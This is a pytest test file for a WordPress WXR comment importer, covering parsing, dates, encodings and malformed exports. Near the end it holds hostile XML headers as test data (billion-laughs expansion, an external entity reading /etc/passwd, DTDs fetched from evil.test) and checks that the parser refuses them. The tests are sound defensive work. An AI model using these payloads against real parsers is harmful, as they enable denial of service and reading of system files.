"""Reading WXR: every version of it, broken as real files are, and hostile as they might be."""

from __future__ import annotations

import gzip
import io
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from commentsvc.domain.transfer import local_times, wordpress
from commentsvc.domain.transfer.records import ImportedComment, ImportedThread
from commentsvc.errors import TransferError
from commentsvc.models import Kind, Role, Status
from tests.support import wxr
from tests.support.time_limit import within


def read(data: bytes) -> list[ImportedThread]:
    return list(wordpress.read(io.BytesIO(data)))


def one(**fields: Any) -> ImportedComment:
    (article,) = read(wxr.export(wxr.item(wxr.comment(**fields))))
    (comment,) = article.comments
    return comment


def refusal(data: bytes) -> str:
    with pytest.raises(TransferError) as caught:
        read(data)
    return str(caught.value)


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_every_version_is_read(version: str, scheme: str) -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment()), version=version, scheme=scheme))
    assert article.url == "http://blog.example/hello/"
    assert article.title == "Hello & welcome"
    assert article.home == wxr.OLD_BLOG
    assert article.source == "blog.example"
    assert article.published_at == datetime(2012, 3, 1, 8, tzinfo=UTC)
    assert not article.hidden
    assert len(article.comments) == 1


def test_a_comment_keeps_all_that_matters_and_nothing_else() -> None:
    comment = one(
        number=41,
        parent=40,
        text="a ]]> b",
        author="Anna &amp; B&#8482;",
        author_url="http://a.example/?x=1&#038;copy=2",
        user_id="1",
    )
    assert (comment.id, comment.parent_id) == ("41", "40")
    assert comment.text == "a ]]> b"
    assert comment.name == "Anna & B™"
    assert comment.email == "anna@mail.example"
    assert comment.website == "http://a.example/?x=1&copy=2"
    assert comment.created_at == datetime(2012, 3, 4, 5, 6, 7, tzinfo=UTC)
    assert "198.51.100.7" not in repr(comment)


@pytest.mark.parametrize(
    ("approved", "status"),
    [
        ("1", Status.APPROVED),
        ("0", Status.HELD),
        ("hold", Status.HELD),
        ("", Status.HELD),
        ("unheard-of", Status.HELD),
        ("spam", Status.SPAM),
        ("trash", Status.TRASH),
        ("post-trashed", Status.TRASH),
    ],
)
def test_the_status_is_understood(approved: str, status: Status) -> None:
    assert one(approved=approved).status is status


@pytest.mark.parametrize(
    ("said", "kind"),
    [
        ("", Kind.COMMENT),
        ("comment", Kind.COMMENT),
        ("review", Kind.COMMENT),
        ("pingback", Kind.PINGBACK),
        ("trackback", Kind.TRACKBACK),
        ("Comment", Kind.COMMENT),
        ("webmention", Kind.PINGBACK),
        ("mention", Kind.PINGBACK),
    ],
)
def test_the_kind_is_understood(said: str, kind: Kind) -> None:
    comment = one(type=said)
    assert comment.kind is kind
    assert not comment.refused


@pytest.mark.parametrize("said", ["order_note", "webhook_delivery", "note", "like", "Order_Note"])
def test_what_was_never_shown_to_readers_is_refused(said: str) -> None:
    assert said in one(type=said).refused


NOTHING = "0000-00-00 00:00:00"


@pytest.mark.parametrize(
    "utc", [NOTHING, "", "1970-01-01 00:00:01", "0001-01-01 00:00:00", "2999-01-01 00:00:00"]
)
def test_a_time_that_is_missing_in_utc_is_taken_from_the_blogs_own(utc: str) -> None:
    comment = one(date_gmt=utc)  # the article tells that the blog is two hours ahead
    assert comment.created_at == datetime(2012, 3, 4, 5, 6, 7, tzinfo=UTC)
    assert not comment.notes


def test_without_any_hint_the_blogs_own_time_counts_as_utc_and_the_report_says_so() -> None:
    item = wxr.item(wxr.comment(date_gmt=NOTHING), post_date_gmt=NOTHING)
    ((comment,),) = (article.comments for article in read(wxr.export(item)))
    assert comment.created_at == datetime(2012, 3, 4, 7, 6, 7, tzinfo=UTC)
    assert comment.notes == (local_times.ZONE_UNKNOWN,)
    assert one(date_gmt=NOTHING, date=NOTHING).created_at is None


def test_the_zone_is_that_of_the_nearest_day_of_the_file() -> None:
    winter = {"date": "2012-01-10 12:00:00", "date_gmt": "2012-01-10 11:00:00"}
    summer = {"date": "2012-07-10 12:00:00", "date_gmt": "2012-07-10 10:00:00"}
    items = [wxr.item(wxr.comment(**winter), wxr.comment(**summer), post_date="", post_date_gmt="")]
    items.append(
        wxr.item(
            *(wxr.comment(date=f"2012-0{month}-15 12:00:00", date_gmt="") for month in (2, 8)), post_date=""
        )
    )
    hours = [
        comment.created_at.hour for comment in read(wxr.export(*items))[1].comments if comment.created_at
    ]
    assert hours == [11, 10]


@pytest.mark.parametrize(
    "written", ["2012-03-04T05:06:07Z", "2012-03-04T07:06:07+02:00", "2012-03-04 05:06:07.5 UTC"]
)
def test_a_time_with_its_zone_is_read(written: str) -> None:
    for fields in ({"date": NOTHING, "date_gmt": written}, {"date": written, "date_gmt": NOTHING}):
        assert one(**fields).created_at == datetime(2012, 3, 4, 5, 6, 7, tzinfo=UTC)


@pytest.mark.parametrize(
    "written", ["2012-02-31 10:00:00", "2012-00-00 00:00:00", "-0001-11-30 00:00:00", "4 March"]
)
def test_what_is_no_time_is_none(written: str) -> None:
    assert one(date=written, date_gmt=written).created_at is None


@pytest.mark.parametrize(
    "fields",
    [
        *(
            {"status": status}
            for status in ("private", "draft", "future", "wc-processing", "acf-disabled", "inherit")
        ),
        {"post_password": "enter"},
        {"status": "inherit", "post_type": "revision"},
    ],
)
def test_an_article_the_public_could_not_read_is_known_as_hidden(fields: dict[str, str]) -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment(), **fields)))
    assert article.hidden
    assert ("not known to be public" in article.hidden_why) == ("-" in fields.get("status", ""))


@pytest.mark.parametrize(
    "fields",
    [{"status": "publish"}, {"status": "inherit", "post_type": "attachment"}, {"post_type": "product"}],
)
def test_an_article_the_public_could_read_is_not_hidden(fields: dict[str, str]) -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment(), **fields)))
    assert not article.hidden


@pytest.mark.parametrize(("status", "closed"), [("closed", True), ("open", False), ("", False)])
def test_an_article_closed_by_hand_is_known_as_closed(status: str, closed: bool) -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment(), comment_status=status)))
    assert article.closed is closed


@pytest.mark.parametrize(
    ("link", "url"),
    [
        ("//blog.example/a/", "http://blog.example/a/"),
        ("/a/", "/a/"),
        ("a/", "http://blog.example/a/"),
        ("mailto:x", "mailto:x"),
        ("https://blog.example/?p=1&amp;x=2", "https://blog.example/?p=1&x=2"),
    ],
)
def test_an_address_without_scheme_or_host_is_completed(link: str, url: str) -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment(), link=link)))
    assert article.url == url


def test_only_a_number_of_the_blogs_authors_proves_who_wrote_a_comment() -> None:
    data = wxr.export(
        wxr.item(*(wxr.comment(user_id=number) for number in ("1", "0", "12"))),
        authors="<wp:author><wp:author_id>1</wp:author_id><wp:author_login>anna</wp:author_login></wp:author>",
    )
    comments = read(data)[0].comments
    assert [comment.user for comment in comments] == ["anna", "", ""]
    assert [comment.role for comment in comments] == [Role.OWNER, None, None]


@pytest.mark.parametrize("number", ["", "0"])
def test_a_guest_is_none_of_the_blogs_authors_whatever_the_file_says(number: str) -> None:
    authors = (
        f"<wp:author><wp:author_id>{number}</wp:author_id><wp:author_login>anna</wp:author_login></wp:author>"
    )
    (article,) = read(wxr.export(wxr.item(wxr.comment(user_id=number)), authors=authors))
    assert (article.comments[0].user, article.comments[0].role) == ("", None)


def test_articles_without_comments_are_passed_over_and_one_without_a_link_gets_its_number() -> None:
    (article,) = read(wxr.export(wxr.item(), wxr.item(wxr.comment(), link="", post_id="12"), wxr.item()))
    assert article.url == "http://blog.example/?p=12"


def test_a_path_is_read_as_well_as_an_open_file(tmp_path: Path) -> None:
    path = tmp_path / "export.xml"
    path.write_bytes(wxr.export(wxr.item(wxr.comment())))
    seen: list[int] = []
    assert len(list(wordpress.read(path, on_read=seen.append))) == 1
    assert sum(seen) == path.stat().st_size
    with pytest.raises(TransferError, match="cannot be read: No such file"):
        list(wordpress.read(tmp_path / "absent.xml"))


def test_characters_that_xml_forbids_are_left_out() -> None:
    data = wxr.export(wxr.item(wxr.comment("be@fore and af@ter"))).replace(
        b"@", b"\x00\x08\x0b\x1f\xef\xbf\xbf"
    )
    assert read(data)[0].comments[0].text == "before and after"


def test_bytes_that_are_no_text_show_as_such() -> None:
    data = wxr.export(wxr.item(wxr.comment("caf@"))).replace(b"caf@", b"caf\xe9")
    assert read(data)[0].comments[0].text == "caf\ufffd"


def test_the_declared_encoding_counts() -> None:
    text = wxr.export(wxr.item(wxr.comment("café"))).decode()
    latin = text.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
    assert read(latin)[0].comments[0].text == "café"
    assert (
        read(text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))[0].comments[0].text
        == "café"
    )
    assert read(b"\xef\xbb\xbf" + text.encode())[0].comments[0].text == "café"


@pytest.mark.parametrize("name", ["zip", "rot13", "unheard-of", "utf-7"])
def test_what_is_no_encoding_of_text_is_refused(name: str) -> None:
    data = wxr.export().replace(b'encoding="UTF-8"', f'encoding="{name}"'.encode())
    assert "Save it as UTF-8" in refusal(data)


def test_empty_lines_before_the_declaration_do_no_harm_and_are_counted() -> None:
    assert read(b"\n\n " + wxr.export(wxr.item(wxr.comment())))
    broken = wxr.export().replace(b"<channel>", b"<channel")
    there = refusal(broken)
    assert refusal(b"\n\n\n" + broken).startswith(f"Line {int(there.split()[1].strip(':')) + 3}:")


BILLION_LAUGHS = (
    """<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>"""
)
OUTSIDE = """<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>"""
PARAMETER = """<!DOCTYPE x [<!ENTITY % far SYSTEM "http://evil.test/x.dtd"> %far;]>"""
QUADRATIC = f"""<!DOCTYPE x [<!ENTITY long "{"a" * 50_000}">]>"""
NOTHING_BUT_A_DTD = """<!DOCTYPE rss SYSTEM "http://evil.test/x.dtd">"""


@pytest.mark.parametrize(
    "head", [BILLION_LAUGHS, OUTSIDE, PARAMETER, QUADRATIC, NOTHING_BUT_A_DTD], ids=lambda head: head[:40]
)
def test_entities_and_dtds_are_refused(head: str) -> None:
    hostile = wxr.export(wxr.item(wxr.comment()), head=head)
    assert refusal(hostile).startswith("Line 3: this declares a DTD or an entity")


def test_an_undeclared_entity_stays_the_text_that_it_is() -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment(), title="&file; &amp; AT&T")))
    assert article.title == "&file; & AT&T"


@within(10)
def test_a_million_nested_elements_are_refused() -> None:
    message = refusal(wxr.export(wxr.item("<b>" * 1_000_000)))
    assert "more than 100 deep" in message


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "The file is empty"),
        (b"ID,Author\n1,Anna\n", "The file is not XML"),
        (b"\xff\xd8\xff\xe0 a picture", "The file is not XML"),
        (gzip.compress(wxr.export()), "The file is compressed. Unpack it"),
        (b"PK\x03\x04 and so on", "The file is compressed. Unpack it"),
        (b"<!DOCTYPE html><html><body>Please log in</body></html>", "a page saved from a browser"),
        (b"<html><body>Please log in</body></html>", "not a WordPress export: it begins with <html>"),
        (
            b'<rss version="2.0"><channel><item><title>x</title></item></channel></rss>',
            "not a WordPress export",
        ),
        (b'<rss version="2.0"><channel></channel></rss>', "Tools > Export"),
        (wxr.export(version="2.0"), "version '2.0'; supported are 1.0, 1.1, 1.2"),
    ],
)
def test_what_is_no_export_is_refused_with_advice(data: bytes, said: str) -> None:
    assert said in refusal(data)


@pytest.mark.parametrize("part", [0.3, 0.6, 0.9, 0.99])
def test_a_file_that_ends_early_is_refused_after_what_it_holds(part: float) -> None:
    whole = wxr.export(*(wxr.item(wxr.comment()) for _ in range(40)))
    articles = wordpress.read(io.BytesIO(whole[: int(len(whole) * part)]))
    results: list[ImportedThread] = []
    with pytest.raises(TransferError, match=r"^Line \d+: the file ends in the middle"):
        results.extend(articles)


class _Endless(io.RawIOBase):
    """An export of a given number of articles that is never in memory as a whole."""

    def __init__(self, articles: int) -> None:
        start, _, end = wxr.export("@@").partition(b"@@")
        body = b"<wp:postmeta>" + b"x" * 100_000 + b"</wp:postmeta>"
        item = wxr.item(wxr.comment()).encode().replace(b"</item>", body + b"</item>")
        self._parts: Iterator[bytes] = iter([start, *[item] * articles, end])

    def read(self, size: int = -1) -> bytes:
        return next(self._parts, b"")


def test_memory_stays_flat_however_long_the_file() -> None:
    tracemalloc.start()
    number = sum(1 for _ in wordpress.read(_Endless(300)))  # type: ignore[arg-type]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert number == 300
    assert peak < 3_000_000
